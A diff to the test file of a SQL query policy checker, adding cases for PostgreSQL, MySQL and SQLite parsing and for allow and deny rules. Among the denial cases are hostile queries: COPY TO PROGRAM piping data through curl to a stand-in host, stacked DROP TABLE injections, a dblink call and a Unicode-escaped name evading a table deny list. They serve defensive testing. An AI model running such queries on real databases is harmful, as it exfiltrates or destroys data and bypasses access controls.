@@ -1,10 +1,13 @@
 import fc from "fast-check";
-import { describe, expect, it } from "vitest";
+import { beforeAll, describe, expect, it } from "vitest";
 import type { Finding } from "../../core/index.js";
 import { globMatch } from "./glob.js";
 import { sqlKind, type SqlOptions } from "./index.js";
 import { lexSql } from "./lexer.js";
 import { provablyShort } from "./parser.js";
+import { loadPgParser } from "./pg-parser.js";
+
+beforeAll(() => loadPgParser());
 
 function codes(options: SqlOptions, query: unknown): string[] {
   const out: Finding[] = [];
@@ -18,6 +21,53 @@ const readOnly: SqlOptions = {
   dialect: "postgresql",
   tables: { deny: ["secrets", "vault.*"] },
 };
+
+describe("sql kind: valid PostgreSQL the old grammar refused", () => {
+  it.each([
+    ["SQL-standard user functions", "SELECT current_user, session_user"],
+    ["VALUES as a UNION arm", "SELECT id FROM t UNION ALL VALUES (0)"],
+    [
+      "VALUES as a recursive CTE's anchor",
+      "WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r",
+    ],
+    ["E-string with an alias", "SELECT E'a\\nb' AS s"],
+    ["quoted alias with doubled quotes", 'SELECT 1 AS "a""b"'],
+    ["U& string", "SELECT U&'d\\0061t' AS w"],
+    ["TABLE shorthand", "TABLE t"],
+  ])("allows %s", (_name, query) => {
+    expect(codes(readOnly, query)).toEqual([]);
+  });
+});
+
+describe("sql kind: writes inside reads, every dialect", () => {
+  it.each([
+    ["postgresql", "SELECT * FROM t WHERE id = 1 FOR UPDATE"],
+    ["postgresql", "SELECT nextval('s')"],
+    ["mysql", "SELECT id FROM t WHERE id = 1 FOR UPDATE"],
+    ["mysql", "SELECT id FROM t LOCK IN SHARE MODE"],
+    ["mysql", "SELECT nextval(s)"],
+  ] as const)("%s: %s needs `update`", (dialect, query) => {
+    expect(codes({ allow: ["select"], dialect }, query)).toEqual(["sql.not_allowed"]);
+    expect(codes({ allow: ["select", "update"], dialect }, query)).toEqual([]);
+  });
+});
+
+describe("sql kind: node-sql-parser dialects read what their servers read", () => {
+  it("SQLite [bracket] identifiers, checked against the table rules", () => {
+    const lite: SqlOptions = { allow: ["select"], dialect: "sqlite", tables: { deny: ["sqlite_master"] } };
+    expect(codes(lite, "SELECT [order id] FROM [orders] WHERE [a]]b] = 1")).toEqual([]);
+    expect(codes(lite, "SELECT * FROM [sqlite_master]")).toEqual(["sql.table_denied"]);
+  });
+
+  it("MySQL adjacent string literals are one literal", () => {
+    expect(codes({ allow: ["select"], dialect: "mysql" }, "SELECT 'Hello' ' ' 'world' AS greeting")).toEqual(
+      [],
+    );
+    expect(codes({ allow: ["select"], dialect: "mysql" }, "SELECT 'a' 'b'; DROP TABLE t")).toEqual([
+      "sql.not_allowed",
+    ]);
+  });
+});
 
 describe("sql kind", () => {
   it.each([
@@ -84,7 +134,20 @@ describe("sql kind", () => {
     ["NUL character", "SELECT 1\u0000; DROP TABLE t", "sql.unparsable"],
     ["not SQL", "please drop the users table", "sql.unparsable"],
     ["not a string", { query: "SELECT 1" }, "sql.unparsable"],
-    ["COPY", "COPY t TO '/tmp/t'", "sql.unparsable"],
+    ["COPY to a server file", "COPY t TO '/tmp/t'", "sql.dangerous_function"],
+    ["COPY TO PROGRAM", "COPY (SELECT * FROM t) TO PROGRAM 'curl -d @- x.example'", "sql.dangerous_function"],
+    ["SELECT INTO TEMP", "SELECT * INTO TEMP t2 FROM t", "sql.not_allowed"],
+    [
+      "dblink with a column list",
+      "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
+      "sql.dangerous_function",
+    ],
+    ["Unicode-escaped denied table", 'SELECT * FROM U&"s\\0065crets"', "sql.table_denied"],
+    ["FOR UPDATE in a read-only policy", "SELECT * FROM t FOR UPDATE", "sql.not_allowed"],
+    ["FOR SHARE in a UNION arm", "(SELECT * FROM t FOR SHARE) UNION SELECT * FROM u", "sql.not_allowed"],
+    ["nextval in a read-only policy", "SELECT nextval('s')", "sql.not_allowed"],
+    ["DO block", "DO $$ BEGIN PERFORM 1; END $$", "sql.dangerous_function"],
+    ["an unknown statement type", "VACUUM t", "sql.not_allowed"],
   ])("denies %s", (_name, query, code) => {
     expect(codes(readOnly, query)).toContain(code);
   });
